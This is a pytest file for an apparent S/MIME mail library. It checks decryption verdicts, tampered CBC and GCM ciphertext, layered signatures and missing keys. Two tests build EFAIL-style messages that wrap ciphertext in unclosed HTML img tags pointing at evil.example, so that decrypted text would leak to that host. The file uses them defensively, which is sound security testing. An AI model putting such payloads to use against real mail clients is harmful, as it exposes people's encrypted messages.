"""What `open` says about encrypted messages, each made by OpenSSL: opened, not ours, damaged, or unsafe to open."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from letterlock import limits
from letterlock.cms import RecipientKey
from letterlock.keystore.failures import WrongPassphrase
from letterlock.operations import identities, trust
from letterlock.operations.open import OpenedMessage, Opening
from letterlock.operations.trust import TrustSettings
from tests.needs import require_program
from tests.signed_mail import DemoMail

TEXT = b"Content-Type: text/plain\r\n\r\nThe offer: EUR 18,400.00\r\n"


@pytest.fixture(scope="module")
def mail(tmp_path_factory: pytest.TempPathFactory) -> DemoMail:
    require_program("openssl", "openssl")
    return DemoMail(tmp_path_factory.mktemp("mail"))


@pytest.fixture(scope="module")
def settings(mail: DemoMail) -> TrustSettings:
    return TrustSettings(tuple(trust.given([mail.anchor])))


@pytest.fixture(scope="module")
def keys(mail: DemoMail, tmp_path_factory: pytest.TempPathFactory) -> list[RecipientKey]:
    passphrase = tmp_path_factory.mktemp("key") / "passphrase"
    passphrase.write_text("correct horse\n")
    return identities.given([mail.key_file(mail.carla, "correct horse")], passphrase)


def opened(raw: bytes, settings: TrustSettings, keys: list[RecipientKey]) -> OpenedMessage:
    opening = Opening(settings, keys=keys)
    opening.feed(raw)
    return opening.close()


def codes(message: OpenedMessage) -> list[str]:
    return [reason.code for reason in message.verdict.reasons]


def entity(raw: bytes) -> bytes:
    header, body = raw.split(b"\r\n\r\n", 1)
    return header[header.index(b"Content-Type: ") :] + b"\r\n\r\n" + body


def text(message: OpenedMessage) -> bytes:
    return b"".join(b"".join(message.body(part.id)) for part in message.parts)


@pytest.mark.parametrize(
    ("options", "authenticated"), [(("-aes-256-cbc",), False), (("-aes-128-gcm",), True), (("-aes-256-gcm",), True)]
)
def test_opened(
    mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey], options: tuple[str, ...], authenticated: bool
) -> None:
    """With the key the text is there; what is not authenticated says so, and nothing of it is called signed."""
    message = opened(mail.encrypt("Offer", TEXT, *options), settings, keys)
    verdict = message.verdict
    assert (verdict.encryption.status, verdict.encryption.authenticated) == ("decrypted", authenticated)
    assert (verdict.signature.status, verdict.headline.code) == ("none", "encryption_decrypted")
    assert ("encryption_not_authenticated" in codes(message)) is not authenticated
    assert b"EUR 18,400.00" in text(message)
    assert not any(part.covered for part in message.parts)


def test_signed_then_encrypted(mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]) -> None:
    """The usual order: the signature inside decides."""
    message = opened(mail.encrypt("Offer", mail_entity(mail)), settings, keys)
    assert message.verdict.encryption.status == "decrypted"
    assert message.verdict.signature.status == "valid"
    assert [layer.status for layer in message.verdict.layers] == ["decrypted", "valid"]
    assert all(part.covered for part in message.parts)


def mail_entity(mail: DemoMail) -> bytes:
    return entity(mail.sign("Offer", TEXT))


def test_encrypted_then_signed(mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]) -> None:
    """Signed around the ciphertext: opened, and still the signer need not know what is inside."""
    message = opened(mail.sign("Offer", entity(mail.encrypt("Offer", TEXT))), settings, keys)
    assert message.verdict.encryption.status == "decrypted"
    assert message.verdict.signature.status == "partial"
    assert codes(message)[0] == "signature_covers_ciphertext"
    assert b"EUR 18,400.00" in text(message)
    assert message.verdict.signature.covers == []


def test_triple_wrapped(mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]) -> None:
    """Signed, encrypted, signed (RFC 2634 §1.1): the innermost signature decides."""
    message = opened(mail.sign("Offer", entity(mail.encrypt("Offer", mail_entity(mail)))), settings, keys)
    assert message.verdict.signature.status == "valid"
    assert [layer.kind for layer in message.verdict.layers] == ["signed", "encrypted", "signed"]


def test_no_key(mail: DemoMail, settings: TrustSettings) -> None:
    """Without the key: for whom it was made, and nothing shown."""
    message = opened(mail.enveloped(), settings, [])
    assert message.verdict.encryption.status == "undecryptable"
    assert not message.verdict.encryption.authenticated
    assert message.verdict.headline.code == "encryption_undecryptable"
    assert codes(message)[0] == "no_recipient_key"
    assert message.parts == []


BLOCK = 16
FILLED = TEXT + b"x" * (-(len(TEXT) + 2) % BLOCK + 38 * BLOCK)
"""Two octets short of full blocks, so that the padding is 02 02 (RFC 5652 §6.3)."""


@pytest.mark.parametrize(
    ("cipher", "from_the_end", "change"),
    [
        # In CBC a change of one block flips the same bits of the next: the padding becomes 02 00, 02 82, 03 02.
        ("-aes-256-cbc", BLOCK + 1, 0x02),
        ("-aes-256-cbc", BLOCK + 1, 0x80),
        ("-aes-256-cbc", BLOCK + 2, 0x01),
        # In GCM: the tag, the last block, and the middle of the text.
        ("-aes-256-gcm", 1, 0x01),
        ("-aes-256-gcm", BLOCK + 2 + 1, 0x01),
        ("-aes-256-gcm", 300, 0x01),
    ],
)
def test_changed_ciphertext_is_one_answer(
    mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey], cipher: str, from_the_end: int, change: int
) -> None:
    """However a ciphertext is changed, nothing of it is shown, and all failures read the same."""
    message = opened(changed(mail.encrypt("Offer", FILLED, cipher), from_the_end, change), settings, keys)
    assert message.verdict.encryption.status == "undecryptable"
    assert message.verdict.headline.code == "encryption_failed"
    assert codes(message)[0] == "content_not_decrypted"
    assert message.parts == []


def test_a_change_that_cbc_does_not_notice_is_not_called_authentic(
    mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]
) -> None:
    """A block in the middle of the text: it opens, and says that nobody vouches for it."""
    message = opened(changed(mail.encrypt("Offer", FILLED, "-aes-256-cbc"), 300, 0x01), settings, keys)
    assert (message.verdict.encryption.status, message.verdict.encryption.authenticated) == ("decrypted", False)
    assert "encryption_not_authenticated" in codes(message)


def changed(raw: bytes, from_the_end: int, change: int) -> bytes:
    """An encrypted message with bits changed in one octet, counted from the end of its DER, where the ciphertext is."""
    header, body = raw.split(b"\r\n\r\n", 1)
    der = bytearray(base64.b64decode(body))
    der[-from_the_end] ^= change
    return header + b"\r\n\r\n" + base64.encodebytes(der).replace(b"\n", b"\r\n")


def test_an_encrypted_part_is_not_opened(mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]) -> None:
    """EFAIL: ciphertext among clear parts stays ciphertext, and the message says so."""
    inner = entity(mail.encrypt("Offer", TEXT))
    raw = (
        b"From: x@evil.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        b'--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--b\r\n' + inner + b"\r\n--b\r\n"
        b'Content-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )
    message = opened(raw, settings, keys)
    assert message.verdict.encryption.status == "refused"
    assert not message.verdict.encryption.authenticated
    assert codes(message)[0] == "encrypted_part"
    assert b"18,400" not in text(message)


def test_ciphertext_is_not_opened_beside_a_clear_part_of_a_signed_message(
    mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]
) -> None:
    """EFAIL in other clothes: a signed message of somebody's own, with clear text as a third part."""
    raw = mail.sign("Offer", entity(mail.encrypt("Offer", TEXT)))
    boundary = b"--" + raw.split(b'boundary="', 1)[1].split(b'"', 1)[0]
    third = boundary + b"\r\nContent-Type: text/html\r\n\r\n<img src='https://evil.example/?\r\n"
    message = opened(raw.replace(boundary + b"--", third + boundary + b"--"), settings, keys)
    assert message.verdict.encryption.status == "refused"
    assert message.verdict.signature.status == "partial"
    assert b"18,400" not in text(message)


def test_content_that_cannot_be_taken_apart(mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]) -> None:
    """Decrypted, and then no mail that anybody could show: not opened, and why."""
    parts = b"--b\r\n\r\nx\r\n" * (limits.MIME_PARTS + 1)
    content = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + parts + b"--b--\r\n"
    message = opened(mail.encrypt("Offer", content, "-aes-256-gcm"), settings, keys)
    assert (message.verdict.encryption.status, message.verdict.encryption.authenticated) == ("undecryptable", False)
    assert (message.verdict.headline.code, codes(message)[0]) == ("encryption_failed", "too_many_parts")
    assert [layer.status for layer in message.verdict.layers] == ["not_opened"]
    assert message.parts == []


def test_wrong_passphrase(mail: DemoMail, tmp_path: Path) -> None:
    """A wrong passphrase is said to be that."""
    (tmp_path / "passphrase").write_text("wrong")
    with pytest.raises(WrongPassphrase):
        identities.given([mail.key_file(mail.carla, "correct horse")], tmp_path / "passphrase")
